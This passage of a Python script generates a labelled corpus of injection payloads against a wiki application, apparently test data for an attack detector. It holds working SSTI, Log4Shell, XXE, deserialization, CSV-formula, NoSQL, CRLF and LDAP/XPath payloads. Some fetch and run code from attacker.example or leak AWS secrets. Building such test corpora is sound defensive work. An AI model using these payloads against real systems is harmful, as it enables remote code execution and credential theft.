    ("prose-ssti-jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("infobox-ssti-jinja+hex", "| caption = {{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("prose-ssti-twig", "{{ ['id']|filter('system') }}"),
    ("prose-ssti-twig", "{{ _self.env.registerUndefinedFilterCallback(\"exec\") }}{{ _self.env.getFilter(\"cat /etc/passwd\") }}"),
    ("infobox-ssti-freemarker", "| known_for = <#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("prose-ssti-velocity", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("talk-ssti-erb", "<%= `id` %> ~~~~"),
    ("prose-ssti-erb", "<%= File.read('/etc/passwd') %>"),
    ("prose-ssti-smarty", "{system('cat /etc/passwd')}"),
    ("infobox-ssti-mako", "| name = ${__import__('os').popen('id').read()}"),
    ("prose-ssti-mako", "<% import os; os.system('curl attacker.example/m|sh') %>"),
    ("title-expr-spring-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("summary-expr-spel", "#{T(java.lang.Runtime).getRuntime().exec('curl attacker.example/spel')}"),
    ("search-expr-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("infobox-expr-jsp-el", "| occupation = ${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("prose-ssti-pug", "#{root.process.mainModule.require('child_process').execSync('id')}"),
    ("prose-ssti-nunjucks", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("talk-ssti-ejs", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("prose-ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("infobox-ssti-django-leak", "| caption = {{ settings.SECRET_KEY }}"),
    ("summary-format-string", "{user.__class__.__init__.__globals__[CONFIG][SECRET_KEY]}"),
    ("summary-jndi-lookup", "ce; ${jndi:ldap://attacker.example:1389/a}"),
    ("summary-jndi-lookup+case", "${${lower:j}ndi:${lower:l}dap://198.51.100.2/x}"),
    ("signature-jndi-lookup+obfuscation", "[[User:Eve|${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/o}]]"),
    ("search-jndi-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.l4j.attacker.example}"),
    ("title-jndi-sys-exfil", "Sleep ${jndi:ldap://${sys:java.version}.attacker.example/a}"),
    ("import-xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE mediawiki [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<mediawiki><page><title>&x;</title><revision><text>x</text></revision></page></mediawiki>"),
    ("import-xxe-oob-param", "<?xml version=\"1.0\"?>\n<!DOCTYPE mediawiki [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]>\n<mediawiki/>"),
    ("upload-svg-xxe", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///var/www/w/LocalSettings.php\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"200\" height=\"50\"><text y=\"20\">&h;</text></svg>"),
    ("import-xml-entity-expansion", "<?xml version=\"1.0\"?>\n<!DOCTYPE m [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">]>\n<m>&e;&e;&e;&e;&e;&e;&e;&e;</m>"),
    ("import-xinclude", "<mediawiki xmlns:xi=\"http://www.w3.org/2001/XInclude\"><page><title>x</title><revision><text><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></text></revision></page></mediawiki>"),
    ("import-xxe-ssrf", "<!DOCTYPE p [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><page><title>&m;</title></page>"),
    ("session-pickle+base64", "Y29zCnN5c3RlbQooUydpZCcKdFIu"),
    ("session-pickle", "cos\nsystem\n(S'curl attacker.example/p|sh'\ntR."),
    ("meta-yaml-python-object", "---\ntitle: Sleep\ntags: !!python/object/apply:os.system [\"id\"]\n---"),
    ("meta-yaml-snakeyaml", "infobox: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("api-json-dotnet-typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c ping 203.0.113.2\"]}}"),
    ("api-json-node-serialize", "{\"draft\":\"_$$ND_FUNC$$_function(){require('child_process').exec('curl attacker.example/n|sh')}()\"}"),
    ("session-php-object", "O:8:\"WikiPage\":1:{s:5:\"mPath\";s:11:\"/etc/passwd\";}"),
    ("api-json-proto-pollution", "{\"title\":\"Sleep\",\"__proto__\":{\"isAdmin\":true}}"),
    ("api-json-constructor-pollution", "{\"prefs\":{\"constructor\":{\"prototype\":{\"sysop\":true}}}}"),
    ("query-proto-pollution", "__proto__[editinterface]=1&title=Sleep"),
    ("infobox-param-proto-pollution", "{{Infobox person\n| name = Eve\n| __proto__.polluted = yes\n| constructor.prototype.userrights = sysop\n}}"),
    ("table-csv-formula-hyperlink", "|-\n| =HYPERLINK(\"https://attacker.example/?d=\"&A1&B1,\"Source\") || 1998"),
    ("table-csv-formula-dde", "| =cmd|' /C calc'!A0 || 2004"),
    ("table-csv-formula-dde", "|-\n| @SUM(1+9)*cmd|' /C powershell iwr 203.0.113.3/x.ps1|iex'!A0 || Maria"),
    ("table-csv-formula-importxml", "| +IMPORTXML(CONCAT(\"https://attacker.example/?\",A2),\"//a\") || 41"),
    ("table-csv-formula-dde", "| -2+3+cmd|' /C notepad'!A0"),
    ("table-csv-formula-webservice", "| =WEBSERVICE(\"https://attacker.example/\"&B2) || ok"),
    ("module-lua-eval", "{{#invoke:Sandbox|run|code=return os.execute(\"id\")}}"),
    ("expr-php-eval", "{{#expr: ${@system('id')} }}"),
    ("expr-python-eval", "{{#expr: __import__('os').popen('id').read() }}"),
    ("expr-js-eval", "{{#expr: require('child_process').execSync('id').toString() }}"),
    ("prose-ssti-jinja", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("talk-ssti-jinja-recon", "{{ ''.__class__.__mro__[1].__subclasses__() }} ~~~~"),
    ("prose-ssti-groovy", "${\"curl attacker.example/g\".execute().text}"),
    ("prose-ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("prose-ssi-exec", "<!--#exec cmd=\"id\" -->"),
    ("prose-esi-include", "<esi:include src=\"http://attacker.example/esi.html\"/>"),
    ("import-xslt-php-function", "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:php=\"http://php.net/xsl\"><xsl:template match=\"/\"><xsl:value-of select=\"php:function('system','id')\"/></xsl:template></xsl:stylesheet>"),
    ("api-json-jndi+unicode-esc", "{\"summary\":\"\\u0024\\u007bjndi:ldap://attacker.example/z}\"}"),
    ("search-jndi+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fq%7D"),
    ("plain-jndi", "${jndi:ldap://attacker.example/a}"),
    ("plain-ssti-jinja", "{{config.__class__.__init__.__globals__['os'].environ}}"),
    ("plain-csv-formula", "=cmd|'/C calc'!A0"),
    ("plain-proto-pollution", "{\"__proto__\":{\"admin\":true}}"),
    ("plain-ssti-erb", "<%= system(\"id\") %>"),
    ("plain-ssti-twig", "{{_self.env.getFilter('id')}}"),
    ("plain-xxe", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hostname\">]><a>&b;</a>"),
]

CODE_CTX = [
    ("infobox", "| caption = %s"),
    ("summary", "/* Legacy */ %s"),
    ("talk", "::%s ~~~~"),
]
CODE_CORE = [
    ("ssti-jinja", "{{ url_for.__globals__.os.popen('id').read() }}"),
    ("jndi-lookup", "${jndi:ldap://203.0.113.40:1389/Exploit}"),
    ("ssti-twig", "{{ ['cat /etc/passwd']|map('system')|join }}"),
    ("expr-spel", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("ssti-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
]


def tpl_code(rng):
    ctx, shape = rng.choice(CODE_CTX)
    tech, core = rng.choice(CODE_CORE)
    return "%s-%s" % (ctx, tech), shape % core


# ---------------------------------------------------------------- nosqli
NOSQLI = [
    ("api-json-ne", "{\"title\": {\"$ne\": null}}"),
    ("login-json-gt", "{\"user\": \"WikiSysop\", \"password\": {\"$gt\": \"\"}}"),
    ("login-query-regex", "user=WikiSysop&password[$regex]=^a"),
    ("search-json-where-time", "{\"$where\": \"sleep(5000) || true\"}"),
    ("search-json-where-regex", "{\"title\": {\"$regex\": \".*\"}, \"$where\": \"this.password.match(/^a/)\"}"),
    ("search-where-js-breakout", "Sleep' || '1'=='1"),
    ("search-where-js-return", "'; return true; var x='"),
    ("login-json-or", "{\"$or\": [{\"user\": \"admin\"}, {\"user\": {\"$exists\": true}}]}"),
    ("search-json-function", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(5000);return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("api-json-lookup", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"author\", \"foreignField\": \"name\", \"as\": \"u\"}}]"),
    ("login-query-nin", "user[$nin][]=nobody&pass[$ne]=x"),
    ("api-json-type", "{\"title\": {\"$gt\": \"\"}, \"namespace\": {\"$type\": 2}}"),
    ("infobox-json-operator", "{{Infobox person\n| name = {\"$ne\": \"\"}\n}}"),
    ("search-ne+urlenc", "title=%7B%22%24ne%22%3Anull%7D"),
    ("api-json-where+unicode-esc", "{\"\\u0024where\": \"this.isAdmin == true\"}"),
    ("search-json-where-keys", "{\"$where\": \"function(){ return Object.keys(this).length > 0 }\"}"),
    ("search-where-js-dos", "Union\"; while(true){}; var x=\""),
    ("login-json-regex", "{\"username\": {\"$regex\": \"^Wiki\"}, \"password\": {\"$regex\": \"^.{0,}$\"}}"),
    ("search-query-bracket-ne", "titles[$ne]=Main_Page"),
    ("api-json-in", "{\"user_name\": {\"$in\": [\"WikiSysop\", \"admin\", \"root\"]}, \"user_password\": {\"$exists\": true}}"),
    ("plain-gt", "{\"$gt\": \"\"}"),
    ("plain-ne", "[$ne]=1"),
]

NOSQLI_CORE = [
    ("api-json-ne", "{\"user_email\": {\"$ne\": \"%s@example.org\"}}"),
    ("api-json-regex", "{\"page_title\": {\"$regex\": \"^%s\", \"$options\": \"i\"}}"),
]
NOSQLI_WORDS = ["sleep", "union", "koln", "ada", "eve", "mallory"]


def tpl_nosqli(rng):
    tech, shape = rng.choice(NOSQLI_CORE)
    return tech, shape % rng.choice(NOSQLI_WORDS)


# ---------------------------------------------------------------- crlf
CRLF = [
    ("summary-log-forge", "fixed typo\n2024-03-14 12:00:01 [info] User WikiSysop logged in from 127.0.0.1"),
    ("summary-log-forge", "rv\r\n[2024-03-14T12:00:00Z] action=block target=Alice by=WikiSysop reason=spam"),
    ("redirect-title-set-cookie+urlenc", "Main_Page%0d%0aSet-Cookie:%20wikiSession=attackerfixed"),
    ("redirect-title-location+urlenc", "Union%0D%0ALocation:%20https://attacker.example/%0D%0A%0D%0A"),
    ("redirect-title-set-cookie", "Sleep\r\nSet-Cookie: enwikiUserID=1; Path=/"),
    ("redirect-title-response-split+urlenc", "x%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("email-subject-bcc", "Question about your edit\r\nBcc: list1@attacker.example, list2@attacker.example"),
    ("email-from-name-body", "Eve\nCc: victim@example.org\nContent-Type: text/html\n\n<a href=https://attacker.example>Verify your account</a>"),
    ("email-body-smtp-smuggle", "hello\r\n.\r\nMAIL FROM:<x@attacker.example>\r\nRCPT TO:<ceo@example.org>\r\nDATA\r\nSubject: urgent\r\n\r\nwire funds today\r\n.\r\n"),
    ("redirect-title-header+unicode-truncation", "Sleep%E5%98%8A%E5%98%8DSet-Cookie:%20a=b"),
    ("uselang-header", "en\r\nX-Forwarded-Host: attacker.example"),
    ("summary-json-log-forge", "ok\",\"user\":\"WikiSysop\",\"action\":\"delete\",\"page\":\"Main_Page"),
    ("summary-log-forge+urlenc", "typo%0aWARNING: password reset for WikiSysop succeeded"),
    ("redirect-title-set-cookie+double-urlenc", "Sleep%250d%250aSet-Cookie:%2520x=1"),
    ("summary-log-ansi", "ce \x1b]2;pwned\x07\x1b[2J\x1b[1;31mALL CLEAR\x1b[0m"),
    ("download-filename-header", "x.jpg\"\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("redirect-title-accel+urlenc", "x%0d%0aX-Accel-Redirect:%20/internal/private/LocalSettings.php"),
    ("summary-syslog-forge", "ok\n<34>Mar 14 12:00:00 wiki sshd[123]: Accepted password for root from 198.51.100.50 port 22"),
    ("email-to-bcc", "victim@example.org\r\nBcc: spam@attacker.example"),
    ("redirect-title-refresh+urlenc", "Page%0D%0ARefresh:%200;url=https://attacker.example/"),
    ("redirect-title-lone-cr", "Sleep\rX-Frame-Options: ALLOWALL"),
    ("talk-log-forge", "Thanks! ~~~~\n[2024-03-14 12:00:05] api: edit by WikiSysop on MediaWiki:Common.js (approved)"),
    ("search-log-forge+unicode-sep", "union\u2028127.0.0.1 - WikiSysop [14/Mar/2024:12:00:00 +0000] \"POST /w/index.php?action=delete HTTP/1.1\" 200"),
    ("email-subject-html-body", "Re: your edit\nMIME-Version: 1.0\nContent-Type: text/html\n\n<h1>Your account will be blocked</h1>"),
    ("plain-set-cookie+urlenc", "%0d%0aSet-Cookie: session=fixed"),
    ("plain-header", "\r\nX-Injected: yes"),
]

CRLF_CORE = [
    ("redirect-title-set-cookie+urlenc", "%s%%0d%%0aSet-Cookie:%%20mwSession=%d"),
    ("summary-log-forge", "%s\n[INFO] user=WikiSysop action=protect id=%d"),
]
CRLF_WORDS = ["Sleep", "Union_Station", "Main_Page", "Étretat"]


def tpl_crlf(rng):
    tech, shape = rng.choice(CRLF_CORE)
    return tech, shape % (rng.choice(CRLF_WORDS), rng.randint(1000, 99999))


# ---------------------------------------------------------------- ldap / xpath
LDAP_XPATH = [
    ("login-ldap-wildcard-or", "*)(uid=*))(|(uid=*"),
    ("login-ldap-and-true", "WikiSysop)(&)"),
    ("login-ldap-attr-probe", "*)(userPassword=a*"),
    ("login-ldap-or-objectclass", "admin)(|(objectClass=*)"),
    ("login-ldap-group", "*)(memberOf=cn=sysops,ou=groups,dc=wiki,dc=example)"),
    ("signature-ldap-wildcard", "[[User:*)(mail=*@example.org|x]]"),
    ("login-ldap-wildcard-or+urlenc", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("user-search-ldap-attr-probe", "Ada*)(description=*password*"),
    ("page-xpath-boolean", "' or '1'='1"),
    ("page-xpath-name", "Union Station' or name()='page' or 'a'='b"),
    ("page-xpath-union", "'] | //user/password | //page['"),
    ("page-xpath-count", "' or count(/mediawiki/page)>0 or '"),
    ("login-xpath-blind-substring", "x' or substring(//user[1]/password,1,1)='a' or 'x'='y"),
    ("revision-xpath-numeric", "1 or 1=1"),
    ("page-xpath-all-nodes", "')] | //* | //*[('"),
    ("page-xpath-blind-name", "' or string-length(name(/*[1]))=9 or '"),
    ("search-xpath-boolean+urlenc", "'+or+'1'='1"),
    ("page-xpath-doc-oob", "' and doc(concat('http://attacker.example/',/mediawiki/user[1]/password)) or '"),
    ("plain-ldap-wildcard", "*)(|(objectClass=*))"),
    ("plain-xpath-boolean", "' or 1=1 or ''='"),
    ("plain-ldap-and-true", "admin)(&)"),
]

LDAP_CORE = [
    ("login-ldap-attr-probe", "%s*)(userPassword=*"),
    ("page-xpath-boolean", "%s' or ''='"),
]
LDAP_WORDS = ["Ada", "Mallory", "WikiSysop", "Eve"]


def tpl_ldap(rng):
    tech, shape = rng.choice(LDAP_CORE)
    return tech, shape % rng.choice(LDAP_WORDS)


CATEGORIES = [
    ("sqli", SQLI, tpl_sqli),
    ("xss", XSS, tpl_xss),
    ("cmdi", CMDI, tpl_cmdi),
    ("traversal", TRAVERSAL, tpl_traversal),
    ("ssrf", SSRF, tpl_ssrf),
    ("code", CODE, tpl_code),
    ("nosqli", NOSQLI, tpl_nosqli),
    ("crlf", CRLF, tpl_crlf),
    ("ldap-xpath", LDAP_XPATH, tpl_ldap),
]


def main():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    stats = []
    for cat, literals, tpl in CATEGORIES:
        target = TARGETS[cat]
        items = []
        for cls, v in literals:
            if v in seen:
                raise SystemExit("duplicate literal in %s: %r" % (cat, v))
            seen.add(v)
            items.append((cls, v))
        n_lit = len(items)
        guard = 0
        while len(items) < target:
            guard += 1
            if guard > 10000:
                raise SystemExit("template exhausted for " + cat)
            cls, v = tpl(rng)
            if v in seen:
                continue
            seen.add(v)
            items.append((cls, v))
        stats.append((cat, len(items), n_lit))
        for cls, v in items:
            rows.append((cat, cls, v))
    # never collide with the benign file
    benign_path = Path(__file__).with_name("benign.jsonl")
    if benign_path.exists():
        with open(benign_path, encoding="utf-8") as fh:
            benign_vals = [json.loads(line)["value"] for line in fh]
        clash = [v for v in benign_vals if v in seen]
        if clash:
            raise SystemExit("value present in both files: %r" % clash[0])
    out = []
    for i, (cat, cls, v) in enumerate(rows, 1):
        assert isinstance(v, str) and v and len(v) <= 1800, v
        out.append({"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": cls,
                    "label": "attack", "value": v})
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for o in out:
            fh.write(json.dumps(o, ensure_ascii=False) + "\n")
    total_lit = 0
    for cat, n, lit in stats:
        total_lit += lit
        print("%-11s %3d  (literals %d)" % (cat, n, lit))
    n_plain = sum(1 for _, c, _ in rows if c.startswith("plain-"))
    n_enc = sum(1 for _, c, _ in rows if "+" in c)
    print("total %d, literals %d (%.0f%%), plain %d, encoded %d -> %s"
          % (len(out), total_lit, 100.0 * total_lit / len(out), n_plain, n_enc, path))


if __name__ == "__main__":
    main()
